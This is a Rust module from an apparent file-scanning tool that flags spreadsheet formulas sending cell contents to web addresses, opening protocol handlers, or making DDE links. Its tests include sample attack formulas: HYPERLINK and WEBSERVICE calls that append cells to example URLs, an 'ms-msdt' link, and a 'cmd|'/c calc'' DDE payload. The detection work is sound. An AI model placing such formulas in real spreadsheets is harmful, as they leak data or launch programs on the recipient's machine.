//! Formulas of worksheets that reach outside: links to programs, and addresses to which a formula adds what cells hold.

use super::table::link;
use crate::artifact::Fact;
use crate::document::relations::starts_something;

/// Functions that ask or open an address.
const FUNCTIONS: &[&str] = &["HYPERLINK(", "WEBSERVICE(", "IMAGE("];
/// Bytes of a formula that are looked at; Excel takes no more.
const LONGEST: usize = 8 << 10;

/// Whether a sheet in XML, whose names of functions stand in ASCII, is worth a walk.
pub(super) fn is_telling(sheet: &[u8]) -> bool {
    let is_wide = sheet.iter().take(64).any(|byte| *byte == 0);
    let names = |name: &str| memchr::memmem::find(sheet, name.as_bytes()).is_some();
    is_wide || FUNCTIONS.iter().any(|name| names(name) || names(&name.to_ascii_lowercase())) || names("|'")
}

/// What a formula, without its equals sign, reaches.
pub(super) fn facts(formula: &str) -> Vec<Fact> {
    let formula = formula.get(..formula.floor_char_boundary(LONGEST)).unwrap_or(formula);
    let mut found: Vec<Fact> =
        if formula.contains('|') { link(formula).into_iter().collect() } else { Vec::new() };
    let upper = formula.to_ascii_uppercase();
    for function in FUNCTIONS {
        for (at, _) in upper.match_indices(function) {
            let Some(argument) = formula.get(at + function.len()..).map(first_argument) else { continue };
            found.extend(fact(function.trim_end_matches('('), argument));
        }
    }
    found
}

/// The same for the rest of a line of a table, where quotation marks of a cell in quotation marks are doubled.
pub(super) fn quoted_facts(rest: &str) -> Vec<Fact> {
    let end = rest.floor_char_boundary(LONGEST);
    facts(&rest.get(..end).unwrap_or(rest).replace("\"\"", "\""))
}

/// The first argument of a call: up to a comma or the bracket that ends it, outside of texts and inner brackets.
fn first_argument(rest: &str) -> &str {
    let (mut depth, mut quoted) = (0usize, false);
    let end = rest.find(|c| {
        quoted ^= c == '"';
        let ends = !quoted && depth == 0 && matches!(c, ',' | ';' | ')');
        if !quoted {
            depth = match c {
                '(' => depth + 1,
                ')' => depth.saturating_sub(1),
                _ => depth,
            };
        }
        ends
    });
    end.and_then(|end| rest.get(..end)).unwrap_or(rest)
}

/// The fact of an address: to what server it goes with what cells hold, or that it starts something.
fn fact(function: &str, argument: &str) -> Option<Fact> {
    let (mut texts, mut others) = (String::new(), String::new());
    for (index, piece) in argument.split('"').enumerate() {
        let place = if index % 2 == 1 { &mut texts } else { &mut others };
        place.push_str(piece);
    }
    let address = texts.trim();
    let is_web = ["http://", "https://", "ftp://"]
        .iter()
        .any(|scheme| address.get(..scheme.len()).is_some_and(|head| head.eq_ignore_ascii_case(scheme)));
    let joins = others.contains('&') || others.to_ascii_uppercase().contains("CONCAT");
    let relation = match () {
        () if is_web && joins && names_cell(&others) => "formula-sends",
        () if !address.is_empty() && !is_web && starts_something(address) => "hyperlink",
        () => return None,
    };
    let target =
        if relation == "hyperlink" { address.to_string() } else { format!("{address} ({function})") };
    Some(Fact::External { relation: relation.into(), target })
}

/// Whether something outside of the texts names a cell: letters, then digits.
fn names_cell(others: &str) -> bool {
    let words = others.split(|c: char| !c.is_ascii_alphanumeric() && c != '$');
    words.map(|word| word.replace('$', "")).any(|word| {
        let digits = word.trim_start_matches(|c: char| c.is_ascii_alphabetic());
        let letters = word.len() - digits.len();
        (1..=3).contains(&letters) && !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(formula: &str) -> Vec<String> {
        let each = facts(formula).into_iter().map(|fact| match fact {
            Fact::External { relation, target } => format!("{relation} {target}"),
            other => panic!("{other:?}"),
        });
        each.collect()
    }

    #[test]
    fn addresses_with_cells_and_starts_are_told() {
        assert_eq!(
            told("HYPERLINK(\"http://a.example/?x=\"&A1&\",\"&$B$2,\"Error, click\")"),
            ["formula-sends http://a.example/?x=, (HYPERLINK)"]
        );
        assert_eq!(
            told("IF(1,webservice(CONCATENATE(\"https://a.example/\",A1)))"),
            ["formula-sends https://a.example/ (WEBSERVICE)"]
        );
        assert_eq!(told("hyperlink(\"ms-msdt:/id x\")"), ["hyperlink ms-msdt:/id x"]);
        assert_eq!(told("cmd|'/c calc'!A1"), ["dde cmd|'/c calc'!A1"]);
    }

    #[test]
    fn plain_addresses_and_places_are_not() {
        for plain in [
            "HYPERLINK(\"https://www.a.example/\",\"Our site\")",
            "HYPERLINK(\"#Sheet2!A1\",A1)",
            "HYPERLINK(A1)",
            "HYPERLINK(\"https://a.example/\"&\"x\")",
            "HYPERLINK(\"mailto:\"&A1)",
            "WEBSERVICE(\"https://rates.example/jpy\")",
            "A1&\"http://a.example\"",
            "HYPERLINK(",
            "",
        ] {
            assert_eq!(told(plain), [""; 0], "{plain}");
        }
        let whole = "HYPERLINK(\"http://a.example/表?x=\"&A1,\"b\")";
        for at in (0..whole.len()).filter(|at| whole.is_char_boundary(*at)) {
            facts(whole.get(..at).unwrap());
        }
    }
}
